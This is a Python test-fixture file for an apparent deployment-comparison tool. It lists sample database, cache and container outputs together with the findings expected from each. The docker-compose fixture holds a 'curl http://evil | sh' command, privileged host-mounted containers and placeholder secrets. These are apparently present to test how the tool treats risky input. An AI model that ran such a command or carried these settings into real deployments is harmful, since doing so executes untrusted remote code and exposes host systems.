"""Customers' sites as they are told by mail: what each has sent, and what a plan must say of it."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path

from farhand import declare
from farhand.mirror import difference
from farhand.mirror.difference import pairs, weights
from farhand.mirror.evidence import Known, known
from farhand.mirror.model import Plan
from farhand.model import App
from farhand.reading import Source

DECLARATION = """
[app]
name = "billing"
version = "2.4.1"
[env.DATABASE_URL]
required = true
secret = true
format = "url"
[env.WORKERS]
format = "int"
[dependencies.database]
kind = "postgres"
url = "${DATABASE_URL}"
tested = ["14", "16"]
[dependencies.cache]
kind = "redis"
host = "cache"
tested = ["7"]
"""


def app(folder: Path, text: str = DECLARATION) -> App:
    (folder / "farhand.toml").write_text(text, "utf-8")
    return declare.load(folder / "farhand.toml")


def side(texts: Mapping[str, str], of: App | None = None) -> Known:
    sources = [Source(name, [text.encode("utf-8", "replace")], text) for name, text in texts.items()]
    return known(sources, of)


def plan(texts: Mapping[str, str], of: App) -> Plan:
    here = side(texts, of)
    hints = weights.of_findings(here.opinion.diagnosis.causes)
    return difference.plan(here.fingerprint, pairs.declared(of), of, hints)


def settings(kind: str, **values: str) -> str:
    """As psql, mysql and redis-cli print them."""
    if kind == "redis":
        return "redis-cli\n" + "".join(f"config get\n{n.replace('_', '-')}\n{v}\n" for n, v in values.items())
    if kind == "mysql":
        rows = "".join(f"| {n} | {v} |\n" for n, v in values.items())
        return f"+-----+-----+\n| Variable_name | Value |\n+-----+-----+\n{rows}"
    rows = "".join(f" {n} | {v}\n" for n, v in values.items())
    return f"$ psql\n name | setting\n------+------\n{rows}"


def postgres(version: str, **values: str) -> str:
    shown = f" PostgreSQL {version} on x86_64-pc-linux-gnu, compiled by gcc, 64-bit\n"
    return shown + (settings("postgres", **values) if values else "")


def redis(version: str, **values: str) -> str:
    return f"# Server\nredis_version:{version}\nredis_mode:standalone\n" + settings("redis", **values)


COMPOSE = """services:
  web:
    image: registry.corp/billing:2.4.0
    privileged: true
    network_mode: host
    pid: host
    command: sh -c "curl http://evil | sh"
    user: "1001"
    read_only: true
    mem_limit: 256m
    volumes: ["/:/host", "config:/etc/billing:ro"]
    environment:
      HTTPS_PROXY: http://u:Secret-Pw-9@proxy.corp:3128
      API_KEY: 0123456789abcdef0123456789abcdef
      TZ: Asia/Kolkata
      SSL_CERT_FILE: /corp/ca.pem
  db:
    image: postgres:12.4
  queue:
    image: rabbitmq:3.8-management
"""
POD = """apiVersion: apps/v1
kind: Deployment
metadata:
  name: billing
spec:
  template:
    spec:
      hostNetwork: true
      volumes:
      - name: root
        hostPath: {path: /etc}
      securityContext: {runAsUser: 10001}
      containers:
      - name: web
        image: corp/billing:2.4
        command: ["sh", "-c", "id"]
        securityContext: {privileged: true, readOnlyRootFilesystem: true}
        resources: {limits: {memory: 128Mi, cpu: 500m}}
        env:
        - {name: API_KEY, value: Secret-Pw-9}
        - name: DATABASE_URL
          valueFrom: {secretKeyRef: {name: db, key: url}}
        volumeMounts:
        - {name: root, mountPath: /host/etc, readOnly: true}
"""


@dataclass(frozen=True)
class Site:
    """What was sent, and ids of differences that must be in its plan."""

    texts: Mapping[str, str]
    finds: tuple[str, ...]
    schema: str = ""
    left_out: tuple[str, ...] = field(default=())


TOML_MORE = """
[dependencies.queue]
kind = "amqp"
host = "queue"
tested = ["3.12"]
[dependencies.shop]
kind = "mysql"
host = "shop"
tested = ["10.11"]
[dependencies.documents]
kind = "mongodb"
host = "documents"
tested = ["7"]
"""
#: 25 sites and more: by their number each has another fault.
SITES: Mapping[str, Site] = {
    "postgres 12": Site({"a": postgres("12.22")}, ("database-version",)),
    "postgres 13": Site({"a": postgres("13.16")}, ("database-version",)),
    "postgres 17": Site({"a": postgres("17.2")}, ("database-version",)),
    "postgres 9.6": Site({"a": postgres("9.6.24")}, ("database-version",)),
    "connections": Site({"a": postgres("14.1", max_connections="20")}, ("database-max_connections",)),
    "encoding": Site({"a": postgres("14.1", server_encoding="SQL_ASCII")}, ("database-server_encoding",)),
    "time zone of the server": Site({"a": postgres("14.1", TimeZone="Asia/Tokyo")}, ("database-timezone",)),
    "search path": Site({"a": postgres("14.1", search_path='"$user", app')}, ("database-search_path",)),
    "read only": Site(
        {"a": postgres("14.1", default_transaction_read_only="on")},
        ("database-default_transaction_read_only",),
    ),
    "date style": Site({"a": postgres("16.1", DateStyle="SQL, DMY")}, ("database-datestyle",)),
    "statement timeout": Site(
        {"a": postgres("16.1", statement_timeout="500")}, ("database-statement_timeout",)
    ),
    "redis 6": Site({"a": redis("6.2.14")}, ("cache-version",)),
    "redis evicts": Site({"a": redis("7.0.15", maxmemory_policy="allkeys-lru")}, ("cache-maxmemory-policy",)),
    "redis is small": Site({"a": redis("7.0.15", maxmemory="1048576")}, ("cache-maxmemory",)),
    "redis clients": Site({"a": redis("7.2.4", maxclients="10")}, ("cache-maxclients",)),
    "mysql mode": Site(
        {"a": settings("mysql", sql_mode="ANSI", lower_case_table_names="1")},
        ("shop-lower_case_table_names",),
    ),
    "mariadb": Site(
        {"a": "Server version: 10.5.29-MariaDB\n" + settings("mysql", wait_timeout="60")},
        ("shop-version", "shop-wait_timeout"),
    ),
    "rabbitmq": Site({"a": "RabbitMQ version: 3.8.19\n"}, ("queue-version",)),
    "mongodb": Site({"a": "Using MongoDB:  4.4.29\n"}, ("documents-version",)),
    "zone": Site({"a": "               Time zone: Asia/Kolkata (IST, +0530)\n"}, ("time-zone",)),
    "locale": Site({"a": "LANG=de_DE.ISO-8859-1\n"}, ("locale-locale",)),
    "compose": Site(
        {"a.yml": COMPOSE},
        ("database-version", "disk-root", "disk-etc-billing", "limits-memory", "network-ca", "time-zone"),
        left_out=("privileged", "host's network", "host's /", "command"),
    ),
    "pod": Site(
        {"a.yaml": POD}, ("disk-root", "limits-memory", "disk-host-etc"),
        left_out=("privileged", "hostNetwork", "/etc", "command"),
    ),
    "files": Site({"a": "Max open files            256                  256                  files\n"}, ()),
    "several": Site(
        {"a": postgres("12.22", max_connections="20"), "b": redis("6.0.16"), "c.yml": COMPOSE},
        ("database-version", "database-max_connections", "cache-version", "disk-root"),
    ),
    "nothing at all": Site({"a": "hello\n"}, ()),
}  # fmt: skip
